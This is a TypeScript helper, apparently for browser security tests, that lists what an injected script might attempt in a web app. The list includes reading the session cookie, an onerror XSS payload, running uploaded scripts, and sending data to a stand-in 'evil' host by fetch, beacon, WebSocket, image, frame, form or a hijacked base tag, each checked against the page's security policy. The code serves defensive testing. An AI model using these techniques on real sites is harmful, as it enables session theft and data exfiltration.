export interface Targets {
  /** Another site. */
  readonly evil: string
  /** A script that was uploaded to this one. */
  readonly upload: string
}

type Tries = Readonly<Record<string, () => unknown>>

/** What a script would try to run; called in the page of the app. A try that returns false, or throws, was refused. */
export function triesToRun({ upload }: Targets): Tries {
  const types = (
    globalThis as never as { trustedTypes: { createPolicy(...a: unknown[]): unknown } }
  ).trustedTypes
  const runs = (script: HTMLScriptElement) =>
    new Promise((resolve) => {
      script.onload = () => resolve(true)
      script.onerror = () => resolve(false)
      setTimeout(() => resolve('isRun' in window), 500)
      document.body.append(script)
    })
  return {
    'read the cookie': () => document.cookie.includes('parley_session'),
    'set HTML': () => {
      document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'
    },
    'make a policy': () => types.createPolicy('evil', {}),
    'make the policy of the app': () => types.createPolicy('parley', {}),
    // Later, because browsers allow it to whoever tests the page.
    'evaluate text': () =>
      new Promise((resolve, reject) => {
        setTimeout(() => {
          try {
            resolve(new Function('return 1')())
          } catch (error) {
            reject(error)
          }
        })
      }),
    'add a script': () => {
      const script = document.createElement('script')
      script.append('window.isRun = true')
      return runs(script)
    },
    'add an uploaded script': () => {
      const script = document.createElement('script')
      script.src = upload
      return runs(script)
    },
    'start a worker': () => new Worker(URL.createObjectURL(new Blob(['1']))),
    'register an uploaded worker': () => navigator.serviceWorker.register(upload),
  }
}

/** What it would try to send out, or to show in place of the app. */
export function triesToReport({ evil }: Targets): Tries {
  const isReported = () =>
    new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true })
      setTimeout(() => resolve(true), 2000)
    })
  const add = <Kind extends 'img' | 'iframe' | 'form'>(kind: Kind) =>
    document.body.appendChild(document.createElement(kind))
  return {
    fetch: () => fetch(`${evil}/fetch`, { mode: 'no-cors' }),
    'send a beacon': () => {
      const reported = isReported()
      navigator.sendBeacon(`${evil}/beacon`, 'x')
      return reported
    },
    'open a WebSocket': () => {
      const reported = isReported()
      new WebSocket(evil.replace('http', 'ws'))
      return reported
    },
    'load a picture': () => {
      const reported = isReported()
      add('img').src = `${evil}/picture`
      return reported
    },
    'show a frame': () => {
      const reported = isReported()
      add('iframe').src = `${evil}/frame`
      return reported
    },
    'submit a form': () => {
      const reported = isReported()
      Object.assign(add('form'), { action: `${evil}/form`, target: '_blank' }).submit()
      return reported
    },
    'move all addresses': () => {
      const base = document.createElement('base')
      base.href = evil
      document.head.append(base)
      return new URL('x', document.baseURI).origin !== location.origin
    },
  }
}
